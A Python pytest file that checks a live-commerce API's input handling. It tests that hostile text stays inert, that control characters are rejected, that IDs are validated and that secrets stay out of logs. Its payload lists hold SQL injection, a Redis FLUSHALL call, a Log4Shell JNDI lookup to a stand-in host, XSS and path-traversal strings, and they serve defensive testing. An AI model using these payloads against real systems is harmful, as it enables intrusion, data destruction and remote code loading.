"""Checks 26 and 29: whatever people type stays text, in rows, keys, logs and answers."""

from __future__ import annotations

from typing import Any

import pytest
from redis.asyncio import Redis

from livecommerce.foundation.core.ids import ShowId

HOSTILE = [
    "Robert'); DROP TABLE people;--",
    '" OR ""="',
    "{}:* {pool}:g",
    "return redis.call('FLUSHALL')",
    "${jndi:ldap://evil.example/a}",
    "<svg/onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "%s%n%x %(name)s {0.__class__}",
    "../../etc/passwd",
    "$1; SELECT pg_sleep(5)",
]
REFUSED = ["a\r\nSet-Cookie: x=1", "nul\x00byte", "\x1b]0;title\x07", "x" * 501]
INVISIBLE = ["Ma\u202eja", "Ma\u200bja", "\u2066Maja\u2069", "Maja\ufeff"]


@pytest.mark.parametrize("text", HOSTILE)
async def test_check_29_hostile_text_is_kept_and_told_as_it_is(
    client: Any, house: Any, redis: Redis, text: str
) -> None:
    keys = {key for key in await redis.keys("*") if not key.startswith(b"rate:")}
    tables = await house.database.fetchval("SELECT count(*) FROM pg_tables WHERE schemaname = 'public'")
    headers = house.headers("maja")

    guest = await client.post("/api/v1/guests", json={"display_name": text[:40]})
    show = await client.post(
        "/api/v1/shows",
        json={"title": text, "description": text, "starts_at": "2026-11-20T20:00:00Z"},
        headers=headers,
    )

    assert (await guest.json())["viewer"]["display_name"] == text[:40]
    made = await show.json()
    assert (made["title"], made["description"]) == (text, text)
    assert show.content_type == "application/json"
    assert show.headers["X-Content-Type-Options"] == "nosniff"
    new_keys = {key for key in await redis.keys("*") if not key.startswith(b"rate:")} - keys
    assert all(made["id"].encode() in key for key in new_keys)
    assert tables == await house.database.fetchval("SELECT count(*) FROM pg_tables WHERE schemaname = 'public'")


@pytest.mark.parametrize("text", REFUSED, ids=repr)
async def test_check_26_control_characters_and_endless_text_are_invalid(client: Any, house: Any, text: str) -> None:
    headers = house.headers("maja")

    answers = [
        await client.post("/api/v1/guests", json={"display_name": text}),
        await client.patch("/api/v1/me", json={"display_name": text}, headers=headers),
        await client.post("/api/v1/accounts", json={"email": f"{text}@example.com", "display_name": "x"}),
        await client.post("/api/v1/shows", json={"title": text, "starts_at": "2026-11-20T20:00:00Z"}, headers=headers),
    ]

    assert [answer.status for answer in answers] == [422] * 4
    assert house.letters.sent == []


@pytest.mark.parametrize("text", INVISIBLE, ids=repr)
async def test_check_26_nobody_looks_like_the_host_by_invisible_letters(client: Any, text: str) -> None:
    answer = await client.post("/api/v1/guests", json={"display_name": text})

    assert (await answer.json())["viewer"]["display_name"] == "Maja"


@pytest.mark.parametrize(
    "bad", ["1", "' OR 1=1--", "{}", "*", "..%2f..%2fsecrets", "%0d%0aX: y", "0" * 37, "%00", "A" * 36]
)
async def test_check_29_ids_are_checked_before_any_query(client: Any, house: Any, bad: str) -> None:
    headers = house.headers("maja")
    show = await house.show()

    for method, path in (
        ("GET", f"/api/v1/shows/{bad}"),
        ("POST", f"/api/v1/shows/{bad}/start"),
        ("PUT", f"/api/v1/shows/{show.id}/pins/{bad}"),
        ("DELETE", f"/api/v1/shows/{show.id}/moderators/{bad}"),
        ("GET", f"/api/v1/products/{bad}"),
        ("GET", f"/api/v1/images/{bad}"),
    ):
        assert (await client.request(method, path, headers=headers)).status == 404


async def test_check_29_services_refuse_such_ids_too(house: Any) -> None:
    for bad in ("", "1", "' OR 1=1", "x" * 500):
        with pytest.raises(Exception, match="no such show"):
            await house.shows.get(ShowId(bad))
        with pytest.raises(Exception, match="nothing here"):
            await house.room.people.get(bad)


async def test_check_25_tokens_and_codes_stand_in_no_log(
    client: Any, house: Any, capfd: pytest.CaptureFixture[str]
) -> None:
    maja = await house.actor("maja")
    once = await house.room.once.mint(maja.id)

    signed_in = await (await client.post("/api/v1/sign-in/once", json={"code": once})).json()
    token = signed_in["token"]
    await client.get("/api/v1/me", headers={"Authorization": f"Bearer {token}"})
    await client.get("/api/v1/me", headers={"Authorization": f"Bearer {token}x"})
    await client.post("/api/v1/accounts", json={"email": "freja@example.com", "display_name": "Freja"})
    await client.post("/api/v1/sign-in", json={"email": "maja@example.com", "password": "correct horse battery"})

    out, err = capfd.readouterr()
    code = house.letters.sent[-1][1].partition(" ")[0]
    for secret in (token, once, code, "correct horse", "freja@example.com", "maja@example.com"):
        assert secret not in out + err
    assert "answered" in out + err
